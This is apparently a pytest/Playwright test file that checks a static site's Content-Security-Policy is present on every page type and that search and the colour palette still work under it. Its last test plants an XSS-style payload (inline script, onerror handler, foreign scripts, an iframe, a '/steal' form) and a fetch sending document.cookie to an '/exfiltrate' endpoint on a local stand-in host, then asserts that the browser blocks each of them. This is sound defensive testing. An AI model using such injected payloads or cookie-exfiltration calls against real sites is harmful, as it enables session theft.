"""Issue 20: every page carries a Content-Security-Policy (generator/outputs/csp.py) that Chromium enforces.

The site works under it — every browser test in this folder runs on pages with the policy and fails on
any console error, which is how Chromium reports a violation; here each page type is also checked for
``securitypolicyviolation`` events and for requests to other hosts — and what the policy is for holds:
a script planted in a page (as if a body got past the sanitizer) does not run, and neither a fetch nor
a script nor an image from another host is loaded. Content-agnostic (marker ``live``).
"""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Callable, Iterator
from typing import Any, ClassVar
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Route

from generator.catalog.graph import Catalog

from .support import Reader
from .test_accessibility import page_types

pytestmark = [pytest.mark.browser, pytest.mark.live]

# Recorded from the first script on: every violation the page reports, and every request it makes.
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", e => window.__violations.push(
  {directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample}));
"""


class _Counting(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        body = b"window.__foreign = 1; document.title = 'pwned';"
        self.send_response(200)
        self.send_header("Content-Type", "application/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def other_host() -> Iterator[tuple[str, list[str]]]:
    """Another origin (same address, another port) that answers anything and counts what reached it."""
    hits: ClassVar[list[str]] = []
    handler = type("Handler", (_Counting,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def _watched(open_reader: Callable[..., Reader], **options: Any) -> tuple[Reader, list[str]]:
    reader = open_reader(**options)
    reader.page.add_init_script(WATCH)
    requests: list[str] = []
    reader.page.on("request", lambda request: requests.append(request.url))
    return reader, requests


def _policy(reader: Reader) -> str:
    return str(reader.page.eval_on_selector('meta[http-equiv="Content-Security-Policy"]', "m => m.content"))


@pytest.mark.parametrize("javascript", [True, False])
def test_every_page_type_runs_under_the_policy(open_reader: Callable[..., Reader], catalog: Catalog,
                                               site_url: str, javascript: bool) -> None:
    reader, requests = _watched(open_reader, java_script_enabled=javascript)
    urls = page_types(catalog)  # 404.html included
    for url in urls:
        response = reader.page.goto(reader.url(url))
        assert response is not None and response.ok, url
        policy = _policy(reader)
        assert "script-src 'self'" in policy and "base-uri 'self'" in policy and "object-src 'none'" in policy
        # The policy comes before the first script, so it governs all of them.
        assert reader.page.evaluate("""() => {
            const meta = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
            const first = document.querySelector("script");
            return !!(meta.compareDocumentPosition(first) & Node.DOCUMENT_POSITION_FOLLOWING);
        }""")
        if javascript:
            reader.page.wait_for_load_state("load")
            assert reader.page.evaluate("window.__violations") == [], url
            # Material's inline scripts ran: it stored its scope and removed the no-js class.
            assert reader.page.evaluate("typeof __md_get === 'function'"), url
            assert "no-js" not in (reader.page.get_attribute("html", "class") or ""), url
    origin = urlparse(site_url).netloc
    assert {u for u in requests if urlparse(u).netloc != origin and not u.startswith("data:")} == set()
    assert reader.problems == [], reader.problems


def test_palette_and_search_work_under_the_policy(open_reader: Callable[..., Reader], catalog: Catalog) -> None:
    reader, _ = _watched(open_reader)
    reader.goto("")
    scheme = reader.page.get_attribute("body", "data-md-color-scheme")
    reader.page.click("form[data-md-component=palette] label:visible")
    assert reader.page.get_attribute("body", "data-md-color-scheme") != scheme
    reader.goto("news/")  # the choice was kept in localStorage by the inline palette script
    assert reader.page.get_attribute("body", "data-md-color-scheme") != scheme
    name = next(iter(catalog.organizations.values())).name if catalog.organizations else "standard"
    assert reader.search(name.split()[0]), "search (Pagefind's WebAssembly and worker) found nothing"
    assert reader.page.evaluate("window.__violations") == []
    assert reader.problems == []


def test_a_planted_script_and_other_hosts_are_blocked(open_reader: Callable[..., Reader], catalog: Catalog,
                                                      other_host: tuple[str, list[str]]) -> None:
    """As if a body had got past the sanitizer: inline script, event handler, scripts, images, styles and
    fetches from another host are all refused by the browser, and the other host hears nothing."""
    foreign, hits = other_host
    article = next(iter(catalog.article_list), None)
    url = article.url if article else "about/"
    planted = (f'<script>window.__planted = 1</script><img src="x" onerror="window.__handler = 1">'
               f'<script src="{foreign}/evil.js"></script><img src="{foreign}/pixel.png">'
               f'<link rel="stylesheet" href="{foreign}/evil.css"><iframe src="{foreign}/frame"></iframe>'
               f'<form action="{foreign}/steal" id="planted-form"><button>Go</button></form>')

    def plant(route: Route) -> None:
        response = route.fetch()
        html = response.text()
        assert "</article>" in html or "</main>" in html
        route.fulfill(response=response, body=re.sub("(</h1>)", lambda m: m.group(1) + planted, html, count=1))

    reader, _ = _watched(open_reader)
    reader.page.route(reader.url(url), plant)
    reader.page.goto(reader.url(url))
    reader.page.wait_for_load_state("load")
    assert reader.page.evaluate("[window.__planted, window.__handler, window.__foreign]") == [None, None, None]
    fetched = reader.page.evaluate(f"""async () => {{
        try {{ await fetch("{foreign}/exfiltrate?c=" + document.cookie); return "fetched"; }}
        catch (e) {{ return "blocked"; }}
    }}""")
    assert fetched == "blocked"
    directives = {v["directive"] for v in reader.page.evaluate("window.__violations")}
    assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src",
            "connect-src"} <= directives, directives
    reader.page.evaluate("document.getElementById('planted-form').requestSubmit()")
    reader.page.wait_for_timeout(300)
    assert "form-action" in {v["directive"] for v in reader.page.evaluate("window.__violations")}
    assert hits == [], f"another host was reached: {hits}"
